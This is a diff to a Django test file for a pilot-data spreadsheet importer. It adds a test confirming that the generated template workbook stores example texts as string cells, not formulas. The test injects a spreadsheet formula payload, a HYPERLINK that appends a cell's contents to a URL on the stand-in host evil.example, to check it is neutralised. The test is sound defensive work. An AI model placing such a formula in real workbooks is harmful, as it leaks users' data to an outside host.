@@ -1,3 +1,4 @@
+import dataclasses
 import datetime
 import io
 
@@ -9,6 +10,7 @@ from django.core.management import CommandError, call_command
 from django.urls import reverse
 from django.utils import translation
 
+from pilot_portal.tests.workbooks import formulas_in, text_cells
 from pilots import importer
 from pilots.bin import bin_check_digit
 from pilots.importer import (
@@ -545,6 +547,17 @@ def test_template_download_is_a_workbook_the_importer_accepts(client, institute,
     workbook.save(buffer)
     result = run(SimpleUploadedFile("filled.xlsx", buffer.getvalue()))
     assert (result.ok, result.created, result.warnings) == (True, 1, [])
+
+
+def test_the_template_writes_its_texts_as_text_never_as_formulas(monkeypatch):
+    link = '=HYPERLINK("http://evil.example/?leak="&B2,"click me")'
+    columns = tuple(dataclasses.replace(c, example=link) if c.code == "name_kk" else c for c in importer.COLUMNS)
+    monkeypatch.setattr(importer, "COLUMNS", columns)
+    workbook = template_workbook()
+    assert formulas_in(workbook) == []
+    texts = text_cells(workbook)
+    # The positive control: the example, and the phone's "+7 …", are there as typed, in string cells.
+    assert (texts.get(link), texts.get("+7 717 255 00 00")) == (["s"], ["s"])
 
 
 def test_empty_template_reports_only_that_it_has_no_rows():
